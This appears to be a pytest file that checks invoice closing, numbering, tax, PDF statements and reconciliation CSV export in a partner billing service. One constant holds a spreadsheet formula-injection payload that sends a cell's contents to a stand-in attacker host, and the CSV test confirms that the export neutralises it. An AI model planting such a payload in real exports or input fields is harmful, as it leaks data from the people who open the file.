"""Invoices a partner can file (issue 15, item 3): closed at month end with a number, tax per line and
in total, never changed after, and downloadable as a PDF statement and a reconciliation CSV."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import timedelta
from decimal import Decimal

import pytest
from sqlalchemy import select, update

from partnerdesk.accounts.models import Role
from partnerdesk.billing import closing
from partnerdesk.billing import service as billing
from partnerdesk.billing.errors import InvoiceClosed
from partnerdesk.billing.models import Invoice, InvoiceLineItem
from partnerdesk.jobs.models import Job, JobStatus
from partnerdesk.webhooks.models import WebhookEvent
from tests.billing.recurring_support import add_recurring_prices, buy_one, monthly_ri_line, run_worker
from tests.orders.factories import OFFICE_US, software_line

pytestmark = pytest.mark.both_engines

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Open invoice")'


def _eur_invoice(caller) -> dict:
    [invoice] = [i for i in caller.get("/v1/invoices").json()["items"] if i["currencyCode"] == "EUR"]
    return invoice


def _close_november(desk, clock) -> None:
    clock.advance(timedelta(days=7))  # 1 December, 10:00
    run_worker(desk)


def test_an_invoice_is_closed_at_month_end_with_its_number_tax_and_totals(shop, desk, clock, actors):
    customer = shop.customer("FR")
    shop.buy(customer, software_line(quantity=2))  # 2 x 1234.56 EUR, FR: VAT 20%
    shop.buy(shop.customer("US"), software_line(OFFICE_US))  # no rate set for US: no tax
    reader = actors(Role.billing_admin)
    open_invoice = _eur_invoice(reader)
    assert open_invoice["invoiceNumber"] is None and open_invoice["isClosed"] is False
    assert (open_invoice["totalCharges"], open_invoice["taxTotal"], open_invoice["totalAmount"]) == \
        ("2469.12", "493.82", "2962.94")

    _close_november(desk, clock)
    invoices = {i["currencyCode"]: i for i in reader.get("/v1/invoices").json()["items"]}
    # Numbered in the order they were closed, from 1 in 2026, gap-free.
    assert sorted(i["invoiceNumber"] for i in invoices.values()) == ["PD-2026-000001", "PD-2026-000002"]
    eur, usd = invoices["EUR"], invoices["USD"]
    assert eur["isClosed"] is True and eur["closedDate"] == "2026-12-01T10:00:00Z"
    assert eur["billingPeriodDescription"] == "November 2026"
    assert (eur["totalCharges"], eur["taxTotal"], eur["totalAmount"]) == ("2469.12", "493.82", "2962.94")
    assert (usd["totalCharges"], usd["taxTotal"], usd["totalAmount"]) == ("999.99", "0.00", "999.99")
    lines = reader.get(f"/v1/invoices/{eur['id']}/lineitems").json()["items"]
    assert [(line["chargeKind"], line["subtotal"], line["taxRate"], line["taxTotal"], line["total"],
             line["invoiceNumber"]) for line in lines] == [
        ("charge", "2469.12", "20", "493.82", "2962.94", eur["invoiceNumber"])]
    with desk.database.session(write=False) as db:
        closed = list(db.scalars(select(WebhookEvent.data).where(WebhookEvent.event_type == "invoice.closed")))
    assert {event["invoiceNumber"] for event in closed} == {"PD-2026-000001", "PD-2026-000002"}
    # Running the worker again closes nothing twice and gives no new number.
    run_worker(desk)
    assert sorted(i["invoiceNumber"] for i in reader.get("/v1/invoices").json()["items"]) == \
        ["PD-2026-000001", "PD-2026-000002"]


def test_a_closed_invoice_never_changes_corrections_go_on_the_next_one(shop, desk, clock, actors):
    add_recurring_prices(desk)
    customer = shop.customer("FR")
    shop.azure_subscription(customer)
    order, _subscription = buy_one(shop, customer, monthly_ri_line())
    _close_november(desk, clock)
    reader = actors(Role.billing_admin)
    november = _eur_invoice(reader)
    assert november["isClosed"] and november["totalAmount"] == "86.42"

    # The service refuses to write on it...
    with desk.database.session() as db, pytest.raises(InvoiceClosed) as refused:
        template = db.scalars(select(InvoiceLineItem).where(InvoiceLineItem.invoice_id == november["id"])).one()
        correction = billing.Charge(
            customer_id=template.customer_id, customer_name=template.customer_name,
            customer_domain=template.customer_domain, customer_country="FR", order_id=template.order_id,
            order_line_number=99, subscription_id=None, product_id=template.product_id, sku_id=template.sku_id,
            availability_id=template.availability_id, product_name=template.product_name,
            sku_name=template.sku_name, unit_price=Decimal("1.00"), quantity=-1, currency="EUR",
            billing_cycle="monthly", term_duration="P3Y", charge_start=clock.now(), charge_end=None,
            charge_type="cancel")
        billing.add_lines(db, partner_id=template.partner_id, invoice_id=november["id"], charges=[correction],
                          rates={}, now=clock.now())
    assert refused.value.code == 4100 and november["invoiceNumber"] in refused.value.description
    # ...and a charge billed into its month after it closed goes on December's instead.
    with desk.database.session() as db:
        moved = billing.charge(db, partner_id=template.partner_id, charges=[
            billing.Charge(**{**correction.__dict__, "quantity": 1, "charge_type": "new",
                              "billed_at": clock.now() - timedelta(days=3)})], now=clock.now())
    assert moved["EUR"] != november["id"]
    # A cancellation in December credits November's charge on December's invoice.
    cancelled = actors(Role.admin_agent).patch(f"/v1/customers/{customer}/orders/{order}",
                                                json={"status": "cancelled"})
    assert cancelled.status_code == 200, cancelled.text
    assert reader.get(f"/v1/invoices/{november['id']}").json() == november
    with desk.database.session() as db:
        assert closing.close_invoice(db, invoice_id=november["id"], prefix="PD", now=clock.now()).total == \
            Decimal("86.42")
    december = [i for i in reader.get("/v1/invoices?period=2026-12").json()["items"]]
    assert [(i["totalCharges"], i["taxTotal"]) for i in december] == [("-71.02", "-14.20")]


def test_an_invoice_is_not_closed_before_its_month_ends(shop, desk, clock):
    shop.buy(shop.customer("FR"), software_line())
    run_worker(desk)
    with desk.database.session() as db:
        invoice = db.scalars(select(Invoice)).one()
        with pytest.raises(billing.InvoiceNotFound.__mro__[1]) as refused:  # a DeskError
            closing.close_invoice(db, invoice_id=invoice.id, prefix="PD", now=clock.now())
    assert refused.value.code == 4101 and refused.value.status_code == 409
    # Its closing job, run early, leaves it open and waits for the month's end again.
    with desk.database.session() as db:
        db.execute(update(Job).where(Job.kind == billing.CLOSE_INVOICE_JOB).values(run_after=clock.now()))
    run_worker(desk)
    with desk.database.session(write=False) as db:
        assert db.get(Invoice, invoice.id).closed_at is None
        assert db.scalars(select(Job.run_after).where(Job.kind == billing.CLOSE_INVOICE_JOB,
                                                      Job.status == JobStatus.queued)).all() == [invoice.period_end]
    clock.advance(invoice.period_end - clock.now())
    run_worker(desk)
    with desk.database.session(write=False) as db:
        assert db.get(Invoice, invoice.id).number == "PD-2026-000001"


def test_the_statement_pdf_holds_the_number_the_lines_and_the_totals(shop, desk, clock, actors, tmp_path):
    customer = shop.customer("FR")
    shop.buy(customer, software_line(quantity=2))
    _close_november(desk, clock)
    reader = actors(Role.billing_admin)
    invoice = _eur_invoice(reader)
    for language, period, totals in (
        ("en", "November 2026", ("€2,469.12", "€493.82", "€2,962.94")),
        ("fr", "novembre 2026", ("2 469,12 €", "493,82 €", "2 962,94 €")),
    ):
        response = reader.get(f"/v1/invoices/{invoice['id']}/documents/statement?language={language}")
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "application/pdf"
        assert response.headers["content-disposition"] == 'attachment; filename="PD-2026-000001.pdf"'
        assert response.content.startswith(b"%PDF-")
        text = _pdf_text(response.content, tmp_path / f"statement-{language}.pdf")
        assert "PD-2026-000001" in text and period in text
        assert "Partner Desk Operator" in text and "75002 Paris" in text
        assert "Office LTSC Professional Plus 2024" in text
        for amount in totals:
            assert amount in text, (amount, text)
    english = _pdf_text(reader.get(f"/v1/invoices/{invoice['id']}/documents/statement").content,
                        tmp_path / "default.pdf")
    assert "Total after tax" in english and "Charge: purchase" in english
    french = _pdf_text(reader.get(f"/v1/invoices/{invoice['id']}/documents/statement?language=fr").content,
                       tmp_path / "fr.pdf")
    assert "Total TTC" in french and "Facturation : achat" in french
    # The partner's own language is the default once its billing profile says so.
    assert reader.put("/v1/profiles/billing", json={"companyName": "Contoso Reseller SAS",
                                                     "language": "fr"}).status_code == 200
    default = _pdf_text(reader.get(f"/v1/invoices/{invoice['id']}/documents/statement").content,
                        tmp_path / "profile.pdf")
    assert "Total TTC" in default and "Contoso Reseller SAS" in default
    refused = reader.get(f"/v1/invoices/{invoice['id']}/documents/statement?language=de")
    assert refused.status_code == 400 and refused.json()["code"] == 4102


def _pdf_text(content: bytes, path) -> str:
    path.write_bytes(content)
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True,
                          text=True).stdout
    return " ".join(text.replace("\u202f", " ").replace("\xa0", " ").split())


def test_the_reconciliation_csv_has_partner_centers_columns_and_no_formula(shop, desk, clock, actors):
    customer = shop.buyer.post("/v1/customers", json={
        "companyProfile": {"domain": "hostile.onmicrosoft.com", "companyName": HOSTILE_NAME},
        "billingProfile": {"companyName": HOSTILE_NAME, "email": "it@hostile.example", "culture": "fr-FR",
                           "language": "fr", "defaultAddress": {"country": "FR", "city": "Lyon",
                                                                "addressLine1": "1 place Bellecour",
                                                                "postalCode": "69002"}}})
    assert customer.status_code == 201, customer.text
    order = shop.buy(customer.json()["id"], software_line())["orders"][0]
    _close_november(desk, clock)
    reader = actors(Role.billing_admin)
    invoice = _eur_invoice(reader)
    response = reader.get(f"/v1/invoices/{invoice['id']}/documents/reconciliation")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="PD-2026-000001.csv"'
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert list(rows[0])[:6] == ["PartnerId", "CustomerId", "CustomerName", "CustomerDomainName",
                                 "CustomerCountry", "InvoiceNumber"]
    [row] = rows
    assert row["CustomerName"] == "'" + HOSTILE_NAME
    assert (row["InvoiceNumber"], row["OrderId"], row["ChargeType"], row["Subtotal"], row["TaxTotal"],
            row["Total"], row["Currency"]) == ("PD-2026-000001", order["id"], "new", "1234.56", "246.91",
                                               "1481.47", "EUR")


def test_only_billing_admins_and_the_operator_download_and_another_partner_gets_404(shop, desk, clock, actors):
    shop.buy(shop.customer("FR"), software_line())
    invoice = _eur_invoice(actors(Role.billing_admin))
    for document in ("statement", "reconciliation"):
        path = f"/v1/invoices/{invoice['id']}/documents/{document}"
        assert actors(Role.billing_admin).get(path).status_code == 200
        assert actors(Role.operator).get(path).status_code == 200
        for role in (Role.admin_agent, Role.sales_agent, Role.helpdesk_agent):
            assert actors(role).get(path).status_code == 403
        assert actors(Role.billing_admin, "Rival").get(path).status_code == 404
        assert actors(Role.billing_admin).get(f"/v1/invoices/no-such-invoice/documents/{document}").status_code \
            == 404


def test_tax_comes_from_the_market_rate_policy_in_force_when_the_line_is_written(shop, actors):
    operator = actors(Role.operator)
    assert operator.get("/v1/policies/tax_rates").json()["value"] == {"FR": "20"}
    customer = shop.customer("FR")
    shop.buy(customer, software_line())
    for bad in ({"FR": "100"}, {"FR": "abc"}, {"XX": "5"}, {"FR": 5.5}, ["FR"], "FR:20"):
        refused = operator.put("/v1/policies/tax_rates", json={"value": bad})
        assert refused.status_code == 400, (bad, refused.text)
        assert "tax_rates" in refused.json()["description"]
    assert operator.get("/v1/policies/tax_rates").json()["value"] == {"FR": "20"}
    changed = operator.put("/v1/policies/tax_rates", json={"value": {"fr": "5.50", "DE": 19}})
    assert changed.status_code == 200 and changed.json()["value"] == {"DE": "19", "FR": "5.5"}
    shop.buy(customer, software_line())
    reader = actors(Role.billing_admin)
    invoice = _eur_invoice(reader)
    lines = reader.get(f"/v1/invoices/{invoice['id']}/lineitems").json()["items"]
    # The first line keeps the rate it was written with; the new one has 5.5% (1234.56 x 5.5% = 67.9008).
    assert sorted((line["taxRate"], line["taxTotal"]) for line in lines) == [("20", "246.91"), ("5.5", "67.90")]
    assert (invoice["taxTotal"], invoice["totalAmount"]) == ("314.81", "2783.93")
    # No rate for the market: no tax.
    operator.put("/v1/policies/tax_rates", json={"value": {}})
    shop.buy(customer, software_line())
    lines = reader.get(f"/v1/invoices/{invoice['id']}/lineitems").json()["items"]
    assert sorted((line["taxRate"], line["taxTotal"]) for line in lines) == [
        ("0", "0.00"), ("20", "246.91"), ("5.5", "67.90")]
